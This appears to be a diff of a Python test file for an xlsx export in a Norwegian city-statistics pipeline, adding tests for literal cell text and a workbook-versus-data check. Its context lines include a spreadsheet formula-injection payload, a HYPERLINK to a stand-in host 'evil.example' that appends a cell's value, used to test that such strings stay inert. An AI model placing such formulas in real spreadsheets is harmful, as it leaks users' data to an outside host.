@@ -21,6 +21,7 @@ from flows.publish.downloads import (
     write_workbook,
 )
 from flows.publish.marts import MARTS, ReportData
+from flows.publish.verify import check_workbook
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
@@ -137,6 +138,38 @@ def test_xlsx_cells_that_look_like_formulas_are_strings_not_formulas(tmp_path):
     assert [c.value for c in cells] == PAYLOADS
     assert {c.data_type for c in cells} == {"s"}
     assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [-1.5] * len(PAYLOADS)
+
+
+def test_xlsx_text_that_looks_like_cell_xml_or_an_error_stays_that_text(tmp_path):
+    texts = ["<r><t>x</t></r>", "<r></r>", "#N/A", "a < b & c", " padded "]
+    rows = [{"indicator_id": f"x{i}", "name_nb": text, "value": 1.0}
+            for i, text in enumerate(texts)]  # fmt: skip
+    path = tmp_path / "bymonitor.xlsx"
+    write_workbook(ReportData(marts={"dim_indicator": rows}), path)
+    cells = [row[1] for row in load_workbook(path)["Indikatorer"].iter_rows(min_row=2)]
+    assert [c.value for c in cells] == texts
+    assert {c.data_type for c in cells} == {"s"}
+
+
+def test_the_workbook_check_compares_a_sheet_with_the_marts_ids_value_by_value(tmp_path):
+    rows = [{"zz_key": f"k{i}", "zz_share": i / 3, "zz_count": 10**i,
+             "zz_loaded": datetime(2026, 1, i + 1, 13 * (i % 2)), "zz_note": None}
+            for i in range(4)]  # fmt: skip
+    marts = {"zz_mart": rows, "dim_town": [{"town_id": "bodo", "town_name": "Bodø"}]}
+    path = tmp_path / "bymonitor.xlsx"
+    write_workbook(ReportData(marts=marts), path)
+    assert check_workbook(path, marts) == []  # a time at midnight reads back as its date
+    changed = [dict(r) for r in rows]
+    changed[1]["zz_share"] += 1e-9
+    changed[2]["zz_loaded"] = datetime(2026, 1, 3, 14)
+    problems = check_workbook(path, {**marts, "zz_mart": changed})
+    assert [p.split(" of ")[0] for p in problems] == [
+        "data/bymonitor.xlsx, sheet zz_mart: zz_share",
+        "data/bymonitor.xlsx, sheet zz_mart: zz_loaded",
+    ]
+    fewer = check_workbook(path, {**marts, "dim_town": []})  # a sheet made for people: its rows
+    assert fewer == ["data/bymonitor.xlsx, sheet Byer: the number of rows shows 1, "
+                     "but the marts hold 0."]  # fmt: skip
 
 
 # ------------------------------------------------------------------------ CSV for Excel
